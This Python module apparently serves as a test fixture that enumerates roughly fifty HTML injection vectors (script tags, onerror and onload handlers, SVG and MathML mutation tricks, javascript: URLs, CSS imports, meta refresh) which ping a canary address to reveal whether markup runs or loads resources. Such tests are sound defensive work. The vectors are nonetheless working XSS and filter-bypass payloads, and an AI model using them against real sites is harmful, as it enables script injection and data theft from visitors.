"""Markup that tries to run something, or to ask a canary for something, in as many ways as we know."""

from __future__ import annotations

RUN = "fetch(`{c}/ran/{n}`,{{mode:`no-cors`}})"
"""A script that tells the canary that it ran; `{n}` is the vector's number."""

VECTORS: tuple[str, ...] = (
    "<script>{run}</script>",
    "<script src='{c}/{n}.js'></script>",
    "<script type=module>import '{c}/{n}.js'</script>",
    "<img src='{c}/{n}' onerror=\"{run}\">",
    '<img src=x onerror="{run}">',
    '<svg onload="{run}"></svg>',
    "<svg><script>{run}</script></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    '<svg><set attributeName=href to="javascript:{run}"></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>{run}</script>"></iframe></foreignObject></svg>',
    "<svg><image href='{c}/{n}'/><image xlink:href='{c}/{n}b'/><use href='{c}/{n}.svg#a'/></svg>",
    '<svg><style><img src=x onerror="{run}"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
    '<math href="javascript:{run}">x</math>',
    "<iframe src='{c}/{n}'></iframe>",
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "<object data='{c}/{n}'></object><embed src='{c}/{n}b'><applet code='{c}/{n}c'></applet>",
    "<body onload=\"{run}\" background='{c}/{n}'>",
    '<input autofocus onfocus="{run}"><select autofocus onfocus="{run}"></select>',
    '<details open ontoggle="{run}"><summary>s</summary></details>',
    "<video autoplay src='{c}/{n}' poster='{c}/{n}b' onerror=\"{run}\"><source src='{c}/{n}c'></video>",
    "<audio autoplay src='{c}/{n}' onerror=\"{run}\"></audio>",
    "<link rel=stylesheet href='{c}/{n}.css'><link rel='preload' as=image href='{c}/{n}b'>",
    "<link rel=prefetch href='{c}/{n}'><link rel=icon href='{c}/{n}b'><link rel=manifest href='{c}/{n}c'>",
    "<style>@import '{c}/{n}.css'; @import url({c}/{n}b.css);</style>",
    "<style>body{{background:url({c}/{n})}} p{{background:u\\72l({c}/{n}b)}} "
    "p:after{{content:url('{c}/{n}c')}}</style>",
    "<style>@font-face{{font-family:f;src:url({c}/{n})}} body{{font-family:f}}</style>",
    "<style>h1{{background:image-set('{c}/{n}' 1x)}} "
    "h2{{background:-webkit-image-set(url({c}/{n}b) 1x)}}</style><h1>.</h1>",
    '<style></style><a title="</style><img src=x onerror={run}>">x</a>',
    "<p style=\"background:url('{c}/{n}')\">x</p><p style='background:URL( \"{c}/{n}b\" )'>x</p>",
    "<meta http-equiv=refresh content='0;url={c}/{n}'>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    "<base href='{c}/base/'><img src='{n}.png'>",
    "<a href=\"javascript:{run}\">x</a><a href=' java&#9;script:{run}'>y</a><a ping='{c}/{n}' href='{c}/{n}b'>z</a>",
    "<form action='{c}/{n}' id=f{n}><button formaction=\"javascript:{run}\">b</button>"
    "<input type=image src='{c}/{n}b'></form>",
    "<img srcset='{c}/{n} 1x, {c}/{n}b 2x'><picture><source srcset='{c}/{n}c'><img></picture>",
    "<img loading=lazy data-src='{c}/{n}' lowsrc='{c}/{n}b' dynsrc='{c}/{n}c'>",
    "<table background='{c}/{n}'><tr><td background='{c}/{n}b'>x</table>",
    '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror={run}>"></textarea>',
    '<title><p title="</title><img src=x onerror={run}>"></title>',
    "<template><img src='{c}/{n}' onerror=\"{run}\"></template>"
    "<template shadowrootmode=open><img src='{c}/{n}b'></template>",
    "<frameset onload=\"{run}\"><frame src='{c}/{n}'></frameset>",
    '<xmp><p title="</xmp><img src=x onerror={run}>"></xmp><noembed><p title="</noembed><img src=x onerror={run}>">',
    "<!--[if true]><img src='{c}/{n}'><![endif]--><!--><img src=x onerror=\"{run}\">-->",
    "<marquee onstart=\"{run}\">m</marquee><isindex type=image src='{c}/{n}'>",
    '<x-card onclick="{run}" tabindex=1 autofocus onfocus="{run}" src=\'{c}/{n}\'>c</x-card>',
    "<image src='{c}/{n}' srcset='{c}/{n}b'><input type=hidden oncontentvisibilityautostatechange=\"{run}\">",
    '<div style="content-visibility:auto" oncontentvisibilityautostatechange="{run}">x</div>',
)


def vector(number: int, address: str) -> str:
    """One way, with the canary's address."""
    run = RUN.format(c=address, n=number)
    return VECTORS[number].format(c=address, n=number, run=run)


def page(number: int, address: str) -> bytes:
    """A page with one way."""
    return f"<!doctype html><html><head></head><body><h1>h</h1>{vector(number, address)}<p>p</p></body></html>".encode()
